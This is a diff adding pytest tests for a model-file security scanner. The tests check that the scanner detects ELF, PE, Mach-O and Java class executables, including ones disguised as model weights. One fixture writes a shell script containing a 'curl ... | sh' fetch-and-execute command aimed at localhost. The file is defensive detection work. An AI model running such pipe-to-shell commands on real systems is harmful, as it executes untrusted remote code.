@@ -1,0 +1,62 @@
+from __future__ import annotations
+
+import struct
+import sys
+from pathlib import Path
+
+from _dataformats_util import rules_of, scan
+
+from modelaudit.findings import FileStatus, IssueSeverity
+from modelaudit.scanners import executable_scanner as es
+
+
+def _pe() -> bytes:
+    head = bytearray(512)
+    head[:2] = b"MZ"
+    struct.pack_into("<I", head, 0x3C, 0x80)
+    head[0x80:0x84] = b"PE\x00\x00"
+    struct.pack_into("<H", head, 0x80 + 22, 0x2000)
+    return bytes(head)
+
+
+def test_real_elf_is_reported(tmp_path: Path) -> None:
+    path = tmp_path / "helper"
+    path.write_bytes(Path(sys.executable).resolve().read_bytes()[:8192])
+    result = scan(path)
+    assert result.scanner_name == "executable"
+    assert es.EXECUTABLE_FILE in rules_of(result, IssueSeverity.WARNING)
+    assert "ELF" in result.issues[0].message
+
+
+def test_elf_named_like_weights_is_critical(tmp_path: Path) -> None:
+    path = tmp_path / "pytorch_model.bin"
+    path.write_bytes(Path(sys.executable).resolve().read_bytes()[:8192])
+    assert es.DISGUISED_EXECUTABLE in rules_of(scan(path), IssueSeverity.CRITICAL)
+
+
+def test_pe_dll_and_shebang(tmp_path: Path) -> None:
+    dll = tmp_path / "custom_op.dll"
+    dll.write_bytes(_pe())
+    result = scan(dll)
+    assert "PE DLL" in result.issues[0].message
+    script = tmp_path / "model.pt"
+    script.write_bytes(b"#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n")
+    assert es.DISGUISED_EXECUTABLE in rules_of(scan(script), IssueSeverity.CRITICAL)
+
+
+def test_mach_o_and_java_class(tmp_path: Path) -> None:
+    macho = tmp_path / "lib"
+    macho.write_bytes(b"\xcf\xfa\xed\xfe" + bytes(60))
+    assert "Mach-O" in scan(macho).issues[0].message
+    klass = tmp_path / "Loader"
+    klass.write_bytes(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(32))
+    assert "Java class" in scan(klass).issues[0].message
+
+
+def test_magic_without_a_valid_header_is_not_an_executable(tmp_path: Path) -> None:
+    path = tmp_path / "blob"
+    path.write_bytes(b"\x7fELF\x09\x09\x09" + bytes(64))
+    result = scan(path)
+    assert not rules_of(result, IssueSeverity.WARNING) - {""}
+    assert not rules_of(result, IssueSeverity.CRITICAL)
+    assert result.status is FileStatus.INCONCLUSIVE
